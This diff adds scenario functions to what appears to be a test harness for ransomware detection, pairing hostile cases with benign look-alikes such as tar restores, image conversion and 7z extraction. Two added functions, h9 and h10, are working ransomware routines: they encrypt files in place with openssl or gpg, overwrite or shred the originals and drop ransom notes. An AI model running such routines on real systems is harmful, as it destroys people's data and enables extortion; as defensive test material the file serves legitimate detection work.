@@ -195,3 +195,46 @@ sc_b11_cron_rsync_move() {
 }
 pre_b12_ssh_ccdecrypt_restore() { su - mkowalski -c 'ccrypt -e -r -f -K "mine-2026" ~/Documents'; }
 sc_b12_ssh_ccdecrypt_restore() { sshx mkowalski 'ccrypt -d -r -f -K "mine-2026" ~/Documents && ls -R ~/Documents | wc -l'; }
+
+# ---- fourth batch: su -l inside a root login, a job left running after logout, and restore/convert look-alikes
+sc_h9_ssh_root_su_openssl_replace() {
+  install -d -m 755 /tmp/.m
+  cat > /tmp/.m/run.sh <<'S'
+#!/bin/bash
+# each file encrypted to a temp, moved over the original, then renamed: the original's inode is gone, not unlinked
+find /srv/nas/share -type f ! -name '*.CRPTD' | while IFS= read -r f; do
+  openssl enc -aes-128-ctr -pbkdf2 -k 'nas-Pw-77' -in "$f" -out "$f.tmp" && mv -f "$f.tmp" "$f" && mv "$f" "$f.CRPTD"
+done
+for d in /srv/nas/share/*/; do cp /tmp/.m/n.txt "$d/RESTORE_FILES_INFO.txt"; done
+S
+  printf 'Files encrypted. Contact: nasrescue@tuta.example\n' > /tmp/.m/n.txt
+  chmod 755 /tmp/.m/run.sh; chmod 644 /tmp/.m/n.txt
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx root 'su - svc-nas -c "bash /tmp/.m/run.sh"'
+  rm -rf /tmp/.m
+}
+sc_h10_ssh_nohup_after_logout() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx priya 'nohup sh -c '"'"'sleep 2; find ~/work -type f | while read f; do gpg --batch --yes --pinentry-mode loopback --passphrase Zk4 --symmetric --output "$f.asc" "$f" && shred -zu "$f"; done; for d in ~/work/*/; do echo "your data is gone, mail zk4@cock.example" > "$d/ZK4-INFO.txt"; done; touch /tmp/.h10-done'"'"' > /dev/null 2>&1 < /dev/null & exit 0'
+  for i in $(seq 120); do [ -f /tmp/.h10-done ] && break; sleep 1; done; rm -f /tmp/.h10-done
+}
+pre_b14_ssh_tar_restore_over() { su - mkowalski -c 'tar czf /tmp/mk-docs.tgz -C ~ Documents'; chmod 644 /tmp/mk-docs.tgz; }
+sc_b14_ssh_tar_restore_over() {
+  sshx mkowalski 'cd ~ && tar xzf /tmp/mk-docs.tgz && rsync -a --delete ~/Documents/ ~/Documents.old/ && ls -R ~/Documents | wc -l'
+  rm -f /tmp/mk-docs.tgz; rm -rf /home/mkowalski/Documents.old
+}
+pre_b15_ssh_convert_images() {
+  for d in 1 2 3 4 5; do mkdir -p /home/tomas/pics/album$d
+    for i in $(seq 1 8); do convert -size 64x48 "xc:rgb($((d*40)),$((i*25)),90)" /home/tomas/pics/album$d/img$i.png; done; done
+  chown -R tomas: /home/tomas/pics
+}
+sc_b15_ssh_convert_images() {
+  sshx tomas 'cd ~/pics && for f in */*.png; do convert "$f" -quality 85 "${f%.png}.jpg" && rm "$f"; done; ls -R | wc -l'
+  rm -rf /home/tomas/pics
+}
+pre_b16_ssh_7z_extract_archives() {
+  cd /home/priya/work && for d in */; do 7z a -bd -p"arch-9" "${d%/}.7z" "$d" >/dev/null && rm -rf "$d"; done; chown -R priya: /home/priya/work; cd /
+}
+sc_b16_ssh_7z_extract_archives() {
+  sshx priya 'cd ~/work && for a in *.7z; do 7z x -bd -y -p"arch-9" "$a" >/dev/null && rm -f "$a"; done; ls -R | wc -l'
+}
